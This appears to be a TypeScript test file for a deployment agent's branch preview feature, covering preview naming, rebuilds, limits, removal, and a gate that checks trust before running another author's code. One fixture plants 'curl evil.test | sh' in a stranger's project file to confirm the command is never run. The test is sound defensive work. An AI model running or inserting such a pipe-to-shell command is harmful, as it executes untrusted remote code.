import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { CreatePreviewInput } from '../../../../agent/protocol/input.ts';
import type { Failed } from '../../../../agent/protocol/failures.ts';
import { told } from '../../../../agent/protocol/told.ts';
import { previewName, previewRecords } from '../../../../agent/project/previewRecords.ts';
import { removeTemporaryFolders, type Repository } from '../../../standins/repository.ts';
import { projectFile, sampleProject } from '../../../standins/sampleProject.ts';
import { gatesOf, kind, stepIds, text, TestWorld, verdictsOf } from '../../../standins/world.ts';

const own: CreatePreviewInput = { kind: 'createPreview', branch: 'pricing' };
const stranger = { name: 'Another Author', email: 'another@example.test' };

describe('previews', function () {
  this.timeout(20_000); // git is real, and machines are busy
  let repo: Repository;
  let test: TestWorld;

  before(() => {
    repo = sampleProject();
    repo.branch('pricing').commit('New prices', { 'web/index.mjs': '2' });
    repo.checkout('main').branch('guest');
    const file = projectFile().replaceAll('make', 'curl evil.test | sh');
    repo.commit('Look at this', { 'web/index.mjs': '3', 'taxiway.json': file }, { author: stranger });
    repo.checkout('main');
  });
  beforeEach(async () => {
    test = await TestWorld.of(repo);
  });
  after(removeTemporaryFolders);

  it('runs a branch under a name of its own and notes whose it is', async () => {
    const draft = await test.carryOut(own);
    assert.deepEqual(stepIds(draft).slice(0, 3), ['record:preview-pricing', 'build:api', 'build:web']);
    assert.equal(test.platform.answer('preview-pricing', 'web')?.version, (await test.commit('pricing')).sha);
    const record = await previewRecords(test.world.own).get('preview-pricing');
    assert.deepEqual(
      [record?.branch, record?.author, record?.title],
      ['pricing', 'Test Author', 'New prices'],
    );
  });

  it('brings a preview up to date when it is made again', async () => {
    await test.carryOut(own);
    const draft = await test.draft(own);
    assert.match(text(draft.remarks.nothingToDo), /shows \w{7} already/);
    repo.checkout('pricing').commit('Better prices', { 'web/index.mjs': '4' });
    repo.checkout('main');
    await test.carryOut(own, { operation: 'op-2' });
    const record = await previewRecords(test.world.own).get('preview-pricing');
    assert.deepEqual([record?.head, record?.title], [(await test.commit('pricing')).sha, 'Better prices']);
  });

  it('builds what it shows already once more where that is asked for', async () => {
    await test.carryOut(own);
    const draft = await test.draft({ ...own, forceRebuild: true });
    assert.deepEqual(
      draft.facts.targets.map(({ service, action }) => [service, action]),
      [
        ['api', 'build'],
        ['web', 'build'],
      ],
    );
    const { targets } = draft.facts;
    assert.ok(targets.every(({ now, then }) => now && then && now.artifact !== then.artifact));
  });

  it("runs one's own commands as the branch says, and somebody else's as the base branch does", async () => {
    const guest = await test.draft({ ...own, branch: 'guest' });
    assert.match(
      gatesOf(guest)['foreignCode']!,
      /It would run on this machine: make, node server.mjs, make, node server.mjs/,
    );
    assert.doesNotMatch(gatesOf(guest)['foreignCode']!, /curl/);
  });

  it('asks once per head commit before it runs the code of somebody else', async () => {
    const head = (await test.commit('guest')).sha;
    const asked = await test.draft({ ...own, branch: 'guest' });
    assert.match(
      gatesOf(asked)['foreignCode']!,
      /^fails \w{7} is by Another Author <another@example.test>, not by you/,
    );
    const trusted = await test.draft({ ...own, branch: 'guest', trustedHead: head });
    assert.equal(verdictsOf(trusted)['foreignCode'], 'passes');
    const other = (await test.commit('pricing')).sha;
    const stale = await test.draft({ ...own, branch: 'guest', trustedHead: other });
    assert.equal(verdictsOf(stale)['foreignCode'], 'fails');
    assert.equal(verdictsOf(await test.draft(own))['foreignCode'], 'passes');
  });

  it('does not take the word of a commit that came from a remote for whose it is', async () => {
    const upstream = sampleProject();
    upstream.branch('forged').commit('Says it is yours', { 'web/index.mjs': '5' });
    upstream.checkout('main');
    const clone = sampleProject();
    clone.git('remote', 'add', 'origin', upstream.folder);
    clone.git('fetch', '--quiet', 'origin');
    const here = await TestWorld.of(clone);
    const forged: CreatePreviewInput = { ...own, branch: 'forged' };
    const text = gatesOf(await here.draft(forged))['foreignCode']!;
    assert.match(text, /^fails \w{7} says it is by Test Author <author@example.test>, but was not made/);
    clone.git('checkout', '--quiet', '-b', 'forged', 'origin/forged'); // to look at it
    clone.checkout('main');
    assert.equal(verdictsOf(await here.draft(forged))['foreignCode'], 'fails');
    const trusted = { ...forged, trustedHead: (await here.commit('forged')).sha };
    assert.equal(verdictsOf(await here.draft(trusted))['foreignCode'], 'passes');
  });

  it('asks nothing about what is on the default branch of the remote: it runs everywhere', async () => {
    const upstream = sampleProject();
    upstream.commit('Merged', { 'web/index.mjs': '6' }, { author: stranger });
    const clone = sampleProject();
    clone.git('remote', 'add', 'origin', upstream.folder);
    clone.git('fetch', '--quiet', 'origin');
    clone.git('reset', '--quiet', '--hard', 'origin/main');
    const here = await TestWorld.of(clone);
    const text = gatesOf(await here.draft({ ...own, branch: 'main' }))['foreignCode'];
    assert.equal(text, 'passes part of main');
  });

  it('gets the variables of previews', async () => {
    await test.draft(own);
    assert.deepEqual(
      test.platform.requests.map(({ target }) => target.variables),
      [{ GREETING: 'preview' }, { GREETING: 'preview' }],
    );
  });

  it('stays known where it fails, so that what went wrong is shown with it', async () => {
    test.platform.failing.add('build:web');
    await assert.rejects(test.carryOut(own), { message: 'badInput' });
    assert.ok(await previewRecords(test.world.own).get('preview-pricing'));
  });

  it('refuses a branch that nobody has, and says which there are', async () => {
    await assert.rejects(test.draft({ ...own, branch: 'nope' }), { message: 'unknownName' });
  });

  it('refuses one more than the limit', async () => {
    const limited = sampleProject({ previews: { targets: { web: { platform: 'local' } }, limit: 1 } });
    limited.branch('one').branch('two');
    const world = await TestWorld.of(limited);
    await world.carryOut({ ...own, branch: 'one' });
    await assert.rejects(world.draft({ ...own, branch: 'two' }), { message: 'badInput' });
    assert.match(text((await world.draft({ ...own, branch: 'one' })).remarks.nothingToDo), /already/);
  });

  it('refuses where the project file has no previews', async () => {
    const none = sampleProject({ previews: undefined });
    const world = await TestWorld.of(none);
    await assert.rejects(world.draft({ ...own, branch: 'main' }), ({ failure }: Failed) => {
      assert.match(text(told(failure).said.what), /taxiway\.json has no key "previews"/);
      return true;
    });
  });

  it('is removed with everything that was noted of it', async () => {
    const { facts } = await test.carryOut(own);
    const undo = kind(own).undo(facts, 'op-1' as never)!;
    assert.deepEqual(undo, { kind: 'removePreview', environment: 'preview-pricing' });
    const draft = await test.carryOut(undo, { operation: 'op-2' });
    assert.deepEqual(stepIds(draft), ['remove:api', 'remove:web', 'forget:preview-pricing']);
    assert.equal(await previewRecords(test.world.own).get('preview-pricing'), null);
    await assert.rejects(test.draft(undo), { message: 'unknownName' });
  });

  it('removes no lasting environment as a preview', async () => {
    await assert.rejects(test.draft({ kind: 'removePreview', environment: 'staging' }), {
      message: 'badInput',
    });
  });
});

describe('the name of a preview', () => {
  it('is the branch where a host name can hold it', () => {
    assert.equal(previewName('pricing'), 'preview-pricing');
  });

  it('keeps apart branches that a host name would not', () => {
    const names = ['feature/a', 'feature-a', 'feature_a', 'Feature/A', 'feature--a'].map(previewName);
    assert.equal(new Set(names).size, names.length);
  });

  it('is one branch’s alone, and a label of a host name', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1 }), (one, other) => {
        assert.match(previewName(one), /^preview-[a-z0-9](?:[a-z0-9-]{0,53}[a-z0-9])?$/);
        assert.equal(previewName(one) === previewName(other), one === other);
      }),
    );
  });
});
